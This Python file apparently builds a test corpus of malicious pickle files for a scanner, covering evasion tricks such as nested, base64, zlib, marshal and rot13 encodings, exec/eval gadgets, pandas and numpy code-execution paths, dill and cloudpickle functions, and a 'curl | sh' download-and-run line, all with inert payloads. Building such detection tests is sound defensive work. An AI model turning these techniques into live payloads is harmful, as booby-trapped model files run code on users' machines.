"""Payloads inside payloads: pickles, code objects and source as bytes and text; dill and cloudpickle of functions."""
import base64
import bz2
import gzip
import lzma
import marshal
import zlib

from kit import ECHO, P, PRINT, evil


def loads(inner, protocol=4):
    return P(protocol).name("pickle", "loads").call(inner).done()


def make(s):
    mal = s.mal
    source = "import os\nos.system('echo inert')\n"
    code = marshal.dumps(compile(source, "inert", "exec"))
    layers = {"raw": evil(), "zlib": zlib.compress(evil()), "gzip": gzip.compress(evil(), mtime=0), "bz2": bz2.compress(evil()), "xz": lzma.compress(evil()), "marshal": code}
    for name, data in layers.items():
        mal(f"bytes-{name}.pkl", P(4).value({"weights": data}).done(), f"{name} payload as bytes, nothing calls it")
        mal(f"base64-{name}.pkl", P(4).value({"weights": base64.b64encode(data).decode()}).done(), f"{name} payload as base64 text")
        mal(f"hex-{name}.pkl", P(3).value({"weights": data.hex()}).done(), f"{name} payload as hexadecimal text")
        mal(f"base64-bytes-{name}.pkl", P(5).value([base64.b64encode(data)]).done(), f"{name} payload as base64 bytes")
    mal("twice.pkl", P(4).bytes(P(4).bytes(evil()).done()).done(), "pickle in a pickle in a pickle")
    mal("base64-twice.pkl", P(4).text(base64.b64encode(base64.b64encode(evil())).decode()).done(), "base64 of base64")
    mal("urlsafe-base64.pkl", P(4).text(base64.urlsafe_b64encode(evil() + b"\xfb\xff\xfe" * 4).decode()).done(), "URL-safe base64")
    mal("base85.pkl", P(4).text(base64.b85encode(evil()).decode()).name("base64", "b85decode").raw("0").done(), "base85 text, and the decoder named")
    mal("bytearray.pkl", P(5).raw(b"\x96", len(evil()).to_bytes(8, "little"), evil()).done(), "pickle in a bytearray")
    mal("latin1-encode.pkl", P(2).value({"blob": evil(2)}).done(), "pickle in bytes as protocol 2 writes them")
    mal("after-prefix.pkl", P(4).bytes(b"weights:" + bytes(64) + evil()).done(), "pickle behind other bytes")
    mal("p17-load-from-bytes.pkl", P(2).name("torch.storage", "_load_from_bytes").call(evil(2)).done(), "pickle in _load_from_bytes", "peers' comparison")
    mal("p17-load-from-bytes-zip.pkl", P(4).name("torch.storage", "_load_from_bytes").call(__import__("kit").zipped(("archive/data.pkl", evil(2)), ("archive/version", b"3\n"))).done(), "PyTorch zip in _load_from_bytes")
    mal("pickle-loads.pkl", loads(evil()), "pickle.loads of a pickle")
    mal("decode-exec.pkl", P(4).name("builtins", "exec").call(P(4).fragment().name("base64", "b64decode").call(base64.b64encode(source.encode()).decode())).done(), "exec of base64")
    mal("zlib-exec.pkl", P(4).name("builtins", "exec").call(P(4).fragment().name("zlib", "decompress").call(zlib.compress(source.encode()))).done(), "exec of zlib")
    mal("rot13-eval.pkl", P(4).name("builtins", "eval").call(P(4).fragment().name("codecs", "decode").call("cevag('varegf')", "rot13")).done(), "eval of rot13")
    mal("marshal-function.pkl", P(4).name("types", "FunctionType").call(P(4).fragment().name("marshal", "loads").call(code), P(4).fragment().name("builtins", "globals").call()).call().done(), "function of a marshalled code object")
    mal("marshal-exec.pkl", P(4).name("builtins", "exec").call(P(4).fragment().name("marshal", "loads").call(code)).done(), "exec of a marshalled code object")
    mal("code-type.pkl", P(4).name("types", "CodeType").call(0, 0, 0, 0, 1, 67, b"d\0S\0", (None,), (), (), "f", "f", "f", 1, b"", b"", (), ()).done(), "code object built field by field")
    mal("source-text.pkl", P(4).name("builtins", "exec").call(source).done(), "exec of source")
    mal("eval-argument.pkl", P(4).name("numpy.testing._private.utils", "runstring").call(source, {}).done(), "source for runstring")
    mal("runstring-base64.pkl", P(4).name("numpy.testing._private.utils", "runstring").call(base64.b64encode(source.encode()).decode(), {}).done(), "base64 source for runstring")
    mal("command-powershell.pkl", P(4).name("os", "system").call("powershell -enc ZQBjAGgAbwA=").done(), "encoded command")
    mal("download-run.pkl", P(4).name("subprocess", "Popen").call(["sh", "-c", "curl -s http://127.0.0.1:9/ | sh"]).done(), "download and run")
    mal("lambda-source.pkl", P(4).name("builtins", "eval").call("lambda: " + PRINT).call().done(), "eval of a lambda, called")
    mal("compile-exec.pkl", P(4).name("builtins", "exec").call(P(4).fragment().name("builtins", "compile").call(PRINT, "x", "exec")).done(), "exec of compile")
    mal("pandas-query.pkl", P(4).name("pandas.core.frame", "DataFrame.query").call(P(4).fragment().name("pandas.core.frame", "DataFrame").call(), f"@__builtins__.eval('{ECHO}')").done(), "pandas query with code")
    real(s)


def real(s):
    """What dill and cloudpickle write for functions by value: code that the file brings along."""
    import cloudpickle
    import dill

    # It changes pickle's own pickler when it is imported; the other families want that as it was.
    dill.extend(False)
    space = {"__name__": "__main__"}
    exec("import os\ndef weights(x):\n    os.system('echo inert')\n    return x\nclass Model:\n    def __reduce__(self):\n        return (eval, (\"print('inert')\",))\n"
         "    def __setstate__(self, state):\n        os.system('echo inert')\nhidden = lambda x: __import__('os').system('echo inert')\n", space)
    for protocol in (2, 4, 5):
        s.mal(f"cloudpickle-function-{protocol}.pkl", cloudpickle.dumps(space["weights"], protocol), "cloudpickle of a function that calls os.system", "cloudpickle")
        s.mal(f"cloudpickle-lambda-{protocol}.pkl", cloudpickle.dumps({"act": space["hidden"]}, protocol), "cloudpickle of a lambda that imports os", "cloudpickle")
        s.mal(f"dill-function-{protocol}.pkl", dill.dumps(space["weights"], protocol, recurse=True), "dill of a function that calls os.system", "dill")
        s.mal(f"dill-lambda-{protocol}.pkl", dill.dumps([space["hidden"]], protocol, recurse=True), "dill of a lambda that imports os", "dill")
    s.mal("cloudpickle-class.pkl", cloudpickle.dumps(space["Model"]), "cloudpickle of a class with __setstate__", "cloudpickle")
    s.mal("dill-class.pkl", dill.dumps(space["Model"], recurse=True), "dill of a class with __setstate__", "dill")
    s.mal("cloudpickle-reduce.pkl", cloudpickle.dumps(space["Model"]()), "cloudpickle of an object whose __reduce__ is eval", "cloudpickle")
    s.mal("dill-reduce.pkl", dill.dumps(space["Model"]()), "dill of an object whose __reduce__ is eval", "dill")
